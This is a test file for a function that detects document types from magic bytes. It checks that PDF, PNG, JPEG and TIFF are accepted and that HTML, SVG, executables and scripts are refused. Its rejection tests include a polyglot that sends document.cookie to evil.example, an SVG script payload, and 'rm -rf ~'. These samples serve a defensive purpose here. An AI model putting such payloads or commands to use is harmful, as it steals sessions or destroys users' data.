import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { MAX_PDF_LEADING_WHITESPACE, sniffDocumentType } from './fileType'

const fixtures = join(import.meta.dirname, '../../../resources/demo/invoices')
const realPdf = new Uint8Array(readFileSync(join(fixtures, 'AzureInterior.pdf')))
const realPng = new Uint8Array(readFileSync(join(fixtures, 'oyo.png')))
const ascii = (text: string) => new TextEncoder().encode(text)
const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0))
  let at = 0
  for (const part of parts) {
    out.set(part, at)
    at += part.length
  }
  return out
}

describe('sniffing document types by magic bytes', () => {
  it('recognises PDF, PNG, JPEG and TIFF (both byte orders, BigTIFF too) with their MIME type and extension', () => {
    expect(sniffDocumentType(realPdf)).toMatchObject({ kind: 'pdf', mimeType: 'application/pdf', extensions: ['pdf'] })
    expect(sniffDocumentType(realPng)).toMatchObject({ kind: 'png', mimeType: 'image/png', extensions: ['png'] })
    expect(sniffDocumentType(new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16]))).toMatchObject({
      kind: 'jpeg',
      mimeType: 'image/jpeg',
      extensions: ['jpg', 'jpeg'],
    })
    for (const tiff of [
      [0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0],
      [0x4d, 0x4d, 0x00, 0x2a, 0, 0, 0, 8],
      [0x49, 0x49, 0x2b, 0x00, 8, 0, 0, 0],
    ]) {
      expect(sniffDocumentType(new Uint8Array(tiff))).toMatchObject({ kind: 'tiff', mimeType: 'image/tiff' })
    }
  })

  it('lets a PDF start with white space, as readers do, but nothing else', () => {
    expect(sniffDocumentType(concat(ascii(' \r\n\t\f'), realPdf))?.kind).toBe('pdf')
    expect(sniffDocumentType(concat(new Uint8Array(MAX_PDF_LEADING_WHITESPACE).fill(0x20), realPdf))?.kind).toBe('pdf')
    expect(sniffDocumentType(concat(new Uint8Array(MAX_PDF_LEADING_WHITESPACE + 1).fill(0x20), realPdf))).toBeNull()
    expect(sniffDocumentType(concat(ascii('x'), realPdf))).toBeNull()
  })

  it('refuses an HTML/PDF polyglot whose first bytes are HTML', () => {
    const polyglot = concat(ascii('<html><script>fetch("https://evil.example/?"+document.cookie)</script>\n'), realPdf)
    expect(sniffDocumentType(polyglot)).toBeNull()
    expect(sniffDocumentType(concat(ascii('  <!--'), realPdf))).toBeNull()
  })

  it('refuses HTML, SVG, executables, scripts, archives, empty and truncated signatures', () => {
    for (const text of [
      '<!DOCTYPE html><html></html>',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      'MZ\x90\x00\x03',
      '#!/bin/sh\nrm -rf ~',
      '@echo off\r\ncalc.exe',
      'PK\x03\x04',
      '',
      '%PDF',
      '\x89PNG',
      'II*',
    ]) {
      expect(sniffDocumentType(ascii(text)), JSON.stringify(text)).toBeNull()
    }
    expect(sniffDocumentType(new Uint8Array([0xff, 0xd8]))).toBeNull()
  })

  it('never calls random bytes a document unless they start with a signature', () => {
    const signatures = [
      [0x89, 0x50],
      [0xff, 0xd8],
      [0x49, 0x49],
      [0x4d, 0x4d],
      [0x25, 0x50],
    ]
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 64 }), (bytes) => {
        const type = sniffDocumentType(bytes)
        if (type === null) return
        const start = bytes.findIndex((b) => ![0x00, 0x09, 0x0a, 0x0c, 0x0d, 0x20].includes(b))
        expect(signatures.some(([a, b]) => bytes[start] === a && bytes[start + 1] === b)).toBe(true)
      }),
    )
  })
})
